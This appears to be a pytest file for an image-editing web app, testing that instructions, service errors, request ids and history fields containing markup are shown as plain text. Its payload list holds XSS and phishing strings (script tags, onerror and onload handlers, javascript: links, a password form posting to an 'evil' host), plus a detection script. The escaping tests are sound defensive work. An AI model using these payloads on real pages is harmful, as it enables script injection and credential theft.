"""Markup from people and services is shown as text (item 11), as an attacker would try it.

Each payload is planted in an instruction, a negative prompt, a service's error message and a
request id (and a warning, a model and a region from a history row), then checked
(a) in the text helpers: what they give each kind of component renders as exactly the payload
    and makes no element; and
(b) in Chromium: after an edit, in the error toast and in History's details the page shows the
    payload as text, and nothing the payload describes exists (no password field, no image or
    frame from the evil host, no script, no on* handler, no javascript: link, no KaTeX)."""

from __future__ import annotations

import re
import string
import time
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import gradio as gr
import pytest
from markdown_it import MarkdownIt

from services.backends.dashscope import map_error
from services.errors import EditorError, ValidationError
from services.history import Entry
from services.types import CostEstimate, EditRequest, EditResult, Size, Usage
from services.validation import validate
from tests.support import ROOT, close_app, launch_app, wait_until_loaded
from ui import handlers, history_panel, text

PAYLOADS = [
    '<form action="http://evil/steal"><input type=password name=pw placeholder=key></form>',
    '<img src="http://evil/x.png" onerror="window.__pwned=1">',
    '<a href="javascript:window.__pwned=3">click me</a>',
    "<script>window.__pwned=2</script>",
    "[link](http://evil/phish)",
    "![img](http://evil/x.png)",
    "**bold** _it_ 1000*700 becomes 992*704",
    "`code` and ```fence```",
    "&lt;b&gt; &amp; &#60;i&#62; &copy; as typed",
    "<style>body{display:none}</style>",
    r"$$\href{javascript:window.__pwned=5}{x}$$ http://evil/auto www.evil.com",
    "# heading\n- item\n1. one\n> quote | a | b |",
    '<svg onload="window.__pwned=4"><circle r=9></circle></svg>',
    '<iframe src="http://evil/frame"></iframe>',
]
IDS = [f"p{i}" for i in range(len(PAYLOADS))]

# What the app's own Markdown may contain around a value: every other tag came from a payload.
OWN_TAGS = {"p", "br", "code", "strong", "em", "blockquote", "ul", "li"}
_RENDER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def squash(value: str) -> str:
    """Text as a person reads it on the page (HTML collapses runs of white space)."""
    return " ".join(value.split())


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        if tag == "br":
            self.text.append("\n")

    def handle_data(self, data):
        self.text.append(data)


def seen(html: str) -> _Seen:
    parser = _Seen()
    parser.feed(html)
    parser.close()
    return parser


def rendered(markdown: str) -> _Seen:
    """What a Markdown component shows: CommonMark (as marked parses it) into HTML."""
    return seen(_RENDER.render(markdown))


def assert_only_own_markup(page: _Seen) -> None:
    foreign = [(tag, attrs) for tag, attrs in page.tags if tag not in OWN_TAGS or attrs]
    assert not foreign, foreign


# Every ASCII punctuation character of a value must reach Markdown as a numeric reference:
# then no Markdown or HTML syntax, autolink (":", "."), KaTeX ("$$") or entity ("&") is left.
_INERT = re.compile(r"(?:&#\d+;|<br>|[^" + re.escape(string.punctuation) + r"])*")


# --- (a) the helpers ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_markdown_helper_renders_the_payload_as_text(payload):
    out = text.markdown(payload)
    assert _INERT.fullmatch(out), out
    page = rendered(f"> {out}")
    assert_only_own_markup(page)
    assert "".join(page.text).strip() == payload
    code = rendered(f"request {text.code(payload)}")
    assert_only_own_markup(code)
    assert "".join(code.text).strip() == f"request {payload}"


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_toast_helper_is_text_for_the_sanitizer(payload):
    out = text.toast(payload)
    assert "<" not in out and ">" not in out
    page = seen(out)
    assert not page.tags and "".join(page.text) == payload


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_status_line_shows_request_id_and_warning_as_text(payload):
    result = EditResult(
        images=(),
        request_id=payload,
        seed=42,
        usage=Usage(1024, 768, 1),
        elapsed_s=1.5,
        cost=CostEstimate(0.03, 1, 0.03, "singapore"),
        model="qwen-image-edit-plus",
        region="singapore",
        warnings=(f"The instruction was cut, starting at “{payload}”.",),
        entry_id="e1",
    )
    status = handlers.status_text(result)
    page = rendered(status)
    assert_only_own_markup(page)
    shown = "".join(page.text)
    assert f"request {payload}" in shown
    assert f"starting at “{payload}”." in shown
    assert "Done in 1.5 s" in shown and "seed 42" in shown and "$0.0300" in shown


def test_the_rounding_note_shows_its_asterisks():
    # The bug as first seen: "1000*700 becomes 992*704" rendered "700 becomes 992" in italics.
    checked = validate(EditRequest(images=("a.png",), prompt="p", size=Size(1000, 700)))
    (note,) = checked.warnings
    result = EditResult((), "r", 1, None, 1.0, CostEstimate(None, 1, None, "singapore"), "m", "s")
    page = rendered(handlers.status_text(replace(result, warnings=(note,))))
    assert_only_own_markup(page)
    assert "1000*700 becomes 992*704" in "".join(page.text)


def entry(payload: str, **changes) -> Entry:
    base = Entry(
        id="e1",
        created=time.time(),
        status="failed",
        model=payload,
        region=payload,
        prompt=payload,
        negative_prompt=payload,
        parameters={"n": 1, "size": payload, "watermark": False},
        request_id=payload,
        seed=7,
        usage={"width": 1024, "height": 1024, "image_count": 1},
        image_count=1,
        cost_usd=0.03,
        warnings=[f"note {payload}"],
        timings={"service_s": 1.0},
        error_code=payload,
        error_message=f"The service rejected a parameter: {payload}",
        inputs=[],
        outputs=[],
        folder=Path("/nonexistent"),
    )
    return replace(base, **changes)


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_history_details_show_every_field_as_text(payload):
    details = history_panel.describe(entry(payload))
    page = rendered(details)
    assert_only_own_markup(page)
    shown = "".join(page.text)
    for expected in (
        payload,  # the instruction (and the model, the negative prompt, the request id...)
        f"request {payload}",
        f"The service rejected a parameter: {payload}",
        f"note {payload}",
        f"size {payload}",
        f"Negative: {payload}",
        payload.title(),  # the region, as the details write it
    ):
        assert expected in shown, expected
    # What marked would still read as syntax (GFM autolinks, KaTeX, tables, entities) is not
    # left raw anywhere: only the app's own tags, bold and line starts remain.
    raw = re.sub(r"</?(?:code|em|br)>|\*\*|^> |^- ", "", details, flags=re.M)
    for syntax in ("<", ">", "[", "]", "`", "$", "|", "_", "*", "://", "www.", "#", "!"):
        assert syntax not in raw.replace("&#", ""), syntax
    assert not re.search(r"&(?!#\d+;)", raw)


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_captions_are_plain_text(payload):
    # Gallery and checkbox captions are text nodes: not escaped (that would show "&lt;").
    row = entry(payload, prompt=payload[:50])
    shown = history_panel.caption(row)
    assert shown.startswith("FAILED · " + squash(payload[:50]))
    assert "\n" not in shown


def test_text_that_is_not_text_is_made_visible():
    # Controls and bidirectional overrides can forge log lines or make a name read backwards.
    assert text.plain("a\x1b[31mb\u202ec") == "a\ufffd[31mb\ufffdc"
    assert text.plain("a\r\nb") == "a\nb"
    assert text.plain("  a \n\t b ", one_line=True) == "a b"
    assert text.markdown("    indented") == "&#32;" * 4 + "indented"  # never a code block
    assert text.markdown("a\nb") == "a<br>b"


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_error_toasts_show_service_text_and_request_id_as_text(payload):
    # The service's message and request id, through the backend's mapping and the UI edge.
    error = map_error(400, "InvalidParameter", f"bad {payload}", f"id-{payload}")
    shown = handlers.user_error(error, title="Edit failed")
    assert isinstance(shown, gr.Error) and not shown.print_exception
    page = seen(shown.message)
    # The only markup is the app's own title line; everything the service said is text.
    assert page.tags == [("strong", []), ("br", [])]
    assert "".join(page.text).startswith("Edit failed")
    assert f"bad {payload}"[:300] in "".join(page.text)
    # API clients get the same words with no markup at all.
    assert not seen(handlers.user_error(error, title="Edit failed", page=False).message).tags
    assert f"(request id id-{payload})" in "".join(page.text)


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_wrapped_handlers_escape_what_they_refuse(payload):
    @handlers.as_user_error
    def restore(model):
        raise ValidationError("model", model, "one of qwen-image-edit-plus")

    with pytest.raises(gr.Error) as caught:
        restore(payload)
    page = seen(caught.value.message)
    assert not page.tags
    assert repr(payload)[:20] in "".join(page.text)


def test_a_plain_editor_error_keeps_its_words():
    # Escaping changes nothing in a message without markup: API clients read the same words.
    error = EditorError("The service did not answer.", "Try again in a minute.")
    assert handlers.user_error(error).message == error.user_text()


# --- (b) in Chromium ------------------------------------------------------------------------

pytest_browser = pytest.mark.browser
PHOTO = ROOT / "assets" / "examples" / "coffee.jpg"

# Everything a payload could have made: all must be absent. Text attributes (alt, title,
# aria-label) may hold the payload as words; the Gallery puts captions there.
INJECTED_JS = """() => {
  const bad = [];
  const q = (sel) => document.querySelectorAll(sel).length;
  if (q("form input[type=password]")) bad.push("password field in a form");
  if (q("form[action*=evil]")) bad.push("form");
  if (q("img[src*=evil], iframe[src*=evil], circle[r='9'], a[href*=evil], a[href^=javascript]"))
    bad.push("element from the payload");
  if (q("#status .katex, #history-details .katex, .toast-body .katex")) bad.push("katex");
  for (const s of document.querySelectorAll("script, style"))
    if (/pwned|evil|body\\{display:none\\}/.test(s.textContent)) bad.push(s.tagName);
  for (const el of document.querySelectorAll("*"))
    for (const a of el.attributes)
      if (a.name.startsWith("on") || (["src", "href", "action", "formaction", "style",
          "srcset", "data"].includes(a.name) && /evil|pwned|javascript:/i.test(a.value)))
        bad.push(el.tagName + " " + a.name + "=" + a.value);
  if (window.__pwned !== undefined) bad.push("script ran: " + window.__pwned);
  if (getComputedStyle(document.body).display === "none") bad.push("style applied");
  return bad;
}"""


class PlantingBackend:
    """The real backend, with a request id and a warning of the test's choosing on each answer
    (the emulator cannot set either), and the request id on each error it raises."""

    def __init__(self, real) -> None:
        self.real = real
        self.request_id: str | None = None
        self.warning: str | None = None

    def generate(self, call):
        try:
            answer = self.real.generate(call)
        except EditorError as exc:
            exc.request_id = self.request_id or exc.request_id
            raise
        extra = (self.warning,) if self.warning else ()
        return replace(
            answer,
            request_id=self.request_id or answer.request_id,
            warnings=tuple(getattr(answer, "warnings", ())) + extra,
        )


@pytest.fixture(scope="module")
def planted_app(tmp_path_factory):
    app = launch_app(tmp_path_factory.mktemp("markup"))
    backend = PlantingBackend(app.services.editor.backend)
    app.services.editor.backend = backend
    yield app, backend
    close_app(app)


@pytest.fixture(scope="module")
def page(browser, planted_app):
    app, _ = planted_app
    context = browser.new_context(viewport={"width": 1440, "height": 1000})
    pg = context.new_page()
    pg.goto(app.url)
    pg.wait_for_selector("#run")
    wait_until_loaded(pg)
    pg.locator("#image1 input[type=file]").set_input_files(str(PHOTO))
    pg.locator("#image1 img").first.wait_for()
    yield pg
    context.close()


def nothing_injected(pg) -> None:
    assert pg.evaluate(INJECTED_JS) == []


def run_once(pg, prompt: str, negative: str) -> None:
    pg.get_by_role("tab", name="Editor").click()
    pg.wait_for_function("!document.querySelector('#run').disabled")  # the last edit ended
    pg.locator("#prompt textarea").fill(prompt)
    pg.locator("#negative textarea").fill(negative)
    pg.locator("#run").click()


def open_history_entry(pg, index: int, marker: str) -> str:
    pg.get_by_role("tab", name="History").click()
    pg.locator("#history-gallery img").nth(index).click()
    pg.wait_for_function(
        "m => document.querySelector('#history-details').innerText.includes(m)", arg=marker
    )
    return squash(pg.locator("#history-details").inner_text())


@pytest_browser
@pytest.mark.parametrize("n, payload", list(enumerate(PAYLOADS)), ids=IDS)
def test_payload_is_text_in_the_browser(page, planted_app, n, payload):
    app, backend = planted_app
    pg, want = page, squash(payload)

    # A good edit: the payload as instruction, negative prompt, request id and warning.
    backend.request_id, backend.warning = f"R1-{n} {payload}", f"W1-{n} {payload}"
    run_once(pg, f"P1-{n} {payload}", f"N1-{n} {payload}")
    pg.wait_for_function(
        "m => document.querySelector('#status').innerText.includes(m)", arg=f"R1-{n} "
    )
    status = squash(pg.locator("#status").inner_text())
    assert f"request R1-{n} {want}" in status and f"Note: W1-{n} {want}" in status
    nothing_injected(pg)

    # A refused edit: the payload as the service's error message and the request id.
    backend.request_id, backend.warning = f"R2-{n} {payload}", None
    app.emulator.inject("error", code="InvalidParameter", message=f"E1-{n} {payload}")
    run_once(pg, f"P2-{n} {payload}", "")
    toast = pg.locator(".toast-body", has_text=f"E1-{n} ")
    toast.first.wait_for(timeout=20_000)
    said = squash(toast.first.inner_text())
    assert f"rejected a parameter: E1-{n} {want}" in said
    assert f"(request id R2-{n} {want})" in said
    nothing_injected(pg)
    for close in pg.locator("[data-testid=toast-close]").all():
        close.click()

    # History: the list's captions, and the details of both edits (newest first).
    pg.get_by_role("tab", name="History").click()
    pg.locator("#history-gallery img").first.wait_for()
    pg.wait_for_function(
        "m => document.querySelector('#history-gallery').innerText.includes(m)", arg=f"P2-{n} "
    )
    captions = squash(pg.locator("#history-gallery").inner_text())
    assert squash(f"FAILED · P2-{n} {payload}")[:40] in captions
    failed = open_history_entry(pg, 0, f"P2-{n} ")
    assert f"P2-{n} {want}" in failed
    assert f"E1-{n} {want}" in failed and f"R2-{n} {want}" in failed
    nothing_injected(pg)
    done = open_history_entry(pg, 1, f"P1-{n} ")
    for expected in (f"P1-{n} {want}", f"Negative: N1-{n} {want}", f"request R1-{n} {want}",
                     f"Note: W1-{n} {want}"):  # fmt: skip
        assert expected in done, expected
    nothing_injected(pg)
